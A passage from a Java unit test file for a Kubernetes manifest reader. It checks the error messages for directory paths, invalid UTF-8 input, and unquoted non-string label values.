                .hasMessage("cannot read " + dir + ": Is a directory");
    }

    @Test
    void invalidUtf8() {
        byte[] bytes = {'a', ':', ' ', (byte) 0xC3, (byte) 0x28, '\n'};
        assertThat(catchThrowableOfType(MeshConfigException.class,
                () -> ManifestReader.read(new ByteArrayInputStream(bytes), "latin1.yaml")))
                .hasMessage("cannot read latin1.yaml: the input is not valid UTF-8 text");
    }

    @Test
    void fileWithErrorsNamesTheFile(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("labels.yaml");
        Files.writeString(file, new String(getClass().getResourceAsStream("/yaml/bad-labels.yaml").readAllBytes(),
                java.nio.charset.StandardCharsets.UTF_8));
        assertThat(catchThrowableOfType(MeshConfigException.class, () -> ManifestReader.read(file)))
                .hasMessage("2 problems:\n"
                        + "  " + file + ":7:14: Pod default/nginx: metadata.labels.version: Kubernetes requires a "
                        + "string here, found the number 1.0; quote it: version: \"1.0\"\n"
                        + "  " + file + ":8:13: Pod default/nginx: metadata.labels.canary: Kubernetes requires a "
                        + "string here, found the boolean yes (YAML 1.1 reads yes as true); quote it: canary: \"yes\"");
    }

    @Test
    void classpathErrorsNameTheResource() {
        assertThat(catchThrowableOfType(MeshConfigException.class,
                () -> ManifestReader.readClasspath("yaml/bad-labels.yaml")).problems())
                .extracting(Problem::location)
                .containsExactly("classpath:yaml/bad-labels.yaml:7:14", "classpath:yaml/bad-labels.yaml:8:13");
    }
}
